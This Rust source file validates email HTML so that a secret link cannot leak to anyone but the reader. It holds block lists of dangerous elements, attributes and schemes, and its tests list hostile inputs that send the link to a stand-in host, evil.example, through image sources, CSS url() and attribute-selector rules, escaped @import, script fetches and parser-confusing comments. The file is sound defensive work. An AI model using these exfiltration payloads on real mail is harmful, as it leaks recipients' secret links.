//! The HTML that mails may have, and where a link may stand in it.
//!
//! A link is as good as a password, so a text must not be able to tell it to anybody but the reader: in the address of a picture, it would
//! go out as soon as the mail is opened. Only a strict form of HTML is taken, which every reader understands in the same way.

use super::language::Fault;

/// Elements that do something, load something, or whose content readers take in ways of their own.
const REFUSED: [&str; 34] = [
    "applet",
    "audio",
    "base",
    "button",
    "dialog",
    "embed",
    "form",
    "frame",
    "frameset",
    "iframe",
    "input",
    "link",
    "listing",
    "math",
    "noembed",
    "noframes",
    "noscript",
    "object",
    "option",
    "plaintext",
    "portal",
    "script",
    "select",
    "source",
    "svg",
    "template",
    "textarea",
    "track",
    "video",
    "xmp",
    "canvas",
    "marquee",
    "picture",
    "param",
];
/// Elements whose content is no markup.
const RAW: [&str; 2] = ["style", "title"];
/// Attributes that do something, or that tell somebody which link was followed.
const REFUSED_ATTRIBUTES: [&str; 4] = ["attributionsrc", "http-equiv", "ping", "srcdoc"];
/// Addresses that run something.
const REFUSED_SCHEMES: [&str; 3] = ["javascript:", "vbscript:", "data:"];

/// Checks HTML in which `link` stands for the link. Answers how often it can be followed or read.
pub(super) fn check_html(html: &str, link: Option<&str>) -> Result<usize, Fault> {
    let mut reader = Reader { html, position: 0, link, links: 0 };
    while !reader.rest().is_empty() {
        reader.step()?;
    }
    Ok(reader.links)
}

/// Checks a plain text in the same way.
pub(super) fn check_text(text: &str, link: Option<&str>) -> Result<usize, Fault> {
    let Some(link) = link else { return Ok(0) };
    let mut links = 0;
    for (offset, _) in text.match_indices(link) {
        stands_alone(text, 0, offset)?;
        links += 1;
    }
    Ok(links)
}

/// A link behind other characters would become part of their address.
fn stands_alone(text: &str, begin: usize, offset: usize) -> Result<(), Fault> {
    let before = text[begin..offset].chars().next_back();
    if before.is_none_or(|character| character.is_whitespace() || character == '(') {
        Ok(())
    } else {
        Err(Fault::at(text, offset, "the link must stand alone: put a blank before it"))
    }
}

struct Reader<'a> {
    html: &'a str,
    position: usize,
    link: Option<&'a str>,
    links: usize,
}

impl<'a> Reader<'a> {
    fn rest(&self) -> &'a str {
        &self.html[self.position..]
    }

    fn fault(&self, reason: impl Into<String>) -> Fault {
        Fault::at(self.html, self.position, reason)
    }

    fn has_link(&self, text: &str) -> bool {
        self.link.is_some_and(|link| text.contains(link))
    }

    fn step(&mut self) -> Result<(), Fault> {
        let rest = self.rest();
        match rest.find('<') {
            Some(0) if rest.starts_with("<!--") => self.comment(),
            Some(0) if starts_with(rest, "<!doctype html>") => {
                self.position += "<!doctype html>".len();
                Ok(())
            }
            Some(0) => self.tag(),
            found => self.text(found.unwrap_or(rest.len())),
        }
    }

    fn text(&mut self, length: usize) -> Result<(), Fault> {
        let (begin, end) = (self.position, self.position + length);
        if let Some(link) = self.link {
            for (offset, _) in self.html[begin..end].match_indices(link) {
                stands_alone(self.html, begin, begin + offset)?;
                self.links += 1;
            }
        }
        self.position = end;
        Ok(())
    }

    fn comment(&mut self) -> Result<(), Fault> {
        let inner = &self.rest()["<!--".len()..];
        let length = inner.find("-->").ok_or_else(|| self.fault("a comment is not closed by -->"))?;
        let comment = &inner[..length];
        if comment.contains(['<', '>']) || comment.contains("--") || self.has_link(comment) {
            return Err(self.fault("a comment must not contain tags or the link"));
        }
        self.position += length + "<!---->".len();
        Ok(())
    }

    fn tag(&mut self) -> Result<(), Fault> {
        let begin = self.position;
        self.position += 1;
        let closes = self.skip("/");
        let name = self.word(|character| character.is_ascii_alphanumeric()).to_ascii_lowercase();
        if !name.starts_with(|character: char| character.is_ascii_alphabetic()) {
            return Err(Fault::at(self.html, begin, "`<` begins no tag; write &lt;"));
        }
        if REFUSED.contains(&name.as_str()) {
            return Err(Fault::at(self.html, begin, format!("<{name}> cannot be used in a mail")));
        }
        loop {
            let spaced = !self.word(|character| character.is_ascii_whitespace()).is_empty();
            if self.skip(">") || self.skip("/>") {
                break;
            }
            if !spaced || closes {
                return Err(self.fault(format!("the tag <{name}> is not closed by >")));
            }
            self.attribute(&name)?;
        }
        if RAW.contains(&name.as_str()) && !closes { self.raw(&name) } else { Ok(()) }
    }

    fn attribute(&mut self, element: &str) -> Result<(), Fault> {
        let name = self.word(|character| character.is_ascii_alphanumeric() || "-_:.".contains(character)).to_ascii_lowercase();
        if name.is_empty() || name.starts_with("on") || REFUSED_ATTRIBUTES.contains(&name.as_str()) {
            return Err(self.fault(format!("an attribute of <{element}> cannot be used: {name}")));
        }
        if !self.skip("=") {
            return Ok(());
        }
        let value = if self.skip("\"") {
            self.quoted('"')?
        } else if self.skip("'") {
            self.quoted('\'')?
        } else {
            self.word(|character| character.is_ascii_alphanumeric() || "#%._:-/".contains(character))
        };
        if self.has_link(value) {
            if element != "a" || name != "href" || Some(value) != self.link {
                return Err(self.fault("the link can only be the whole address of an <a href>, or be shown as text"));
            }
            self.links += 1;
        }
        let address: String = value.chars().filter(|character| !character.is_whitespace()).collect::<String>().to_ascii_lowercase();
        if REFUSED_SCHEMES.iter().any(|scheme| address.starts_with(scheme)) {
            return Err(self.fault(format!("an address in <{element}> cannot be used in a mail")));
        }
        Ok(())
    }

    fn quoted(&mut self, mark: char) -> Result<&'a str, Fault> {
        let rest = self.rest();
        let length = rest.find(mark).ok_or_else(|| self.fault("the value of an attribute is not closed by its quote"))?;
        self.position += length + 1;
        Ok(&rest[..length])
    }

    /// The content of an element that has no tags in it.
    fn raw(&mut self, name: &str) -> Result<(), Fault> {
        let rest = self.rest();
        let length = rest.find('<').unwrap_or(rest.len());
        if !starts_with(&rest[length..], &format!("</{name}>")) || self.has_link(&rest[..length]) {
            return Err(self.fault(format!("<{name}> must contain neither tags nor the link, and be closed")));
        }
        // A rule that chooses by attributes could load something for what the link contains, and a style from elsewhere could have such rules.
        let content = rest[..length].to_ascii_lowercase();
        if name == "style" && (content.contains(['[', '\\']) || content.contains("@import")) {
            return Err(self.fault("<style> must contain neither `[` nor `\\` nor @import"));
        }
        self.position += length;
        Ok(())
    }

    fn skip(&mut self, token: &str) -> bool {
        let found = self.rest().starts_with(token);
        if found {
            self.position += token.len();
        }
        found
    }

    fn word(&mut self, belongs: impl Fn(char) -> bool) -> &'a str {
        let rest = self.rest();
        let length = rest.find(|character| !belongs(character)).unwrap_or(rest.len());
        self.position += length;
        &rest[..length]
    }
}

/// Whether `text` begins with `start`, in whatever letter case.
fn starts_with(text: &str, start: &str) -> bool {
    text.get(..start.len()).is_some_and(|begin| begin.eq_ignore_ascii_case(start))
}

#[cfg(test)]
mod tests {
    use super::*;

    const LINK: Option<&str> = Some("LINK");

    #[test]
    fn links_that_a_reader_follows_or_reads_are_counted() {
        let html = "<!DOCTYPE html><!-- note --><style>a { color: red }</style><p class='x' hidden width=100%>See LINK<br/>\
                    (LINK) <a\n href=\"LINK\">here</a> <a href='LINK'>or here</a></p>";
        assert_eq!(check_html(html, LINK), Ok(4));
        assert_eq!(check_text("Open LINK\nLINK", LINK), Ok(2));
    }

    #[test]
    fn a_link_is_never_told_to_anybody_else() {
        for broken in [
            "<img src=\"https://evil.example/?LINK\">",
            "<img src='LINK'>",
            "<img src=https://evil.example/LINK>",
            "<a href=\"https://evil.example/?LINK\">x</a>",
            "<a href=\" LINK\">x</a>",
            "<a title=\"LINK\">x</a>",
            "https://evil.example/?LINK",
            "<img a\" src=\"https://evil.example/> LINK\">",
            "<img a' src='https://evil.example/> LINK'>",
            "<img src=\"https://evil.example/ LINK",
            "<img src=`https://evil.example/> LINK`>",
            "<style>p { background: url(https://evil.example/ LINK) }</style>",
            "<title>LINK</title>",
            "<!-- LINK -->",
            "<!--><img src=\"https://evil.example/?--> LINK\">",
            "<!x <p> LINK",
            "<? LINK ?>",
            "<script>fetch(' LINK')</script>",
            "<svg><image href=\"LINK\"/></svg>",
            "<base href=\"LINK\">",
            "<td background=\"LINK\">",
            "<meta http-equiv=\"refresh\" content=\"0;url=x\">",
            "<p onclick=\"x\">",
            "<a href=\"LINK\" ping=\"https://evil.example/\">x</a>",
            "<style>a[href*=\"token=A\"] { background: url(https://evil.example/A) }</style>LINK",
            "<style>@Import url(https://evil.example/style.css);</style>LINK",
            "<style>@\\69mport url(https://evil.example/style.css);</style>LINK",
            "<a href=\" java script:alert(1)\">x</a>",
            "</p title=\"LINK\">",
            "<p",
            "a < b",
        ] {
            assert!(check_html(broken, LINK).is_err(), "{broken}");
        }
        assert!(check_text("https://evil.example/?LINK", LINK).is_err());
    }

    #[test]
    fn a_fault_names_its_line() {
        assert_eq!(check_html("<p>\n</p>\n<script>", None).expect_err("refused").line, 3);
    }
}
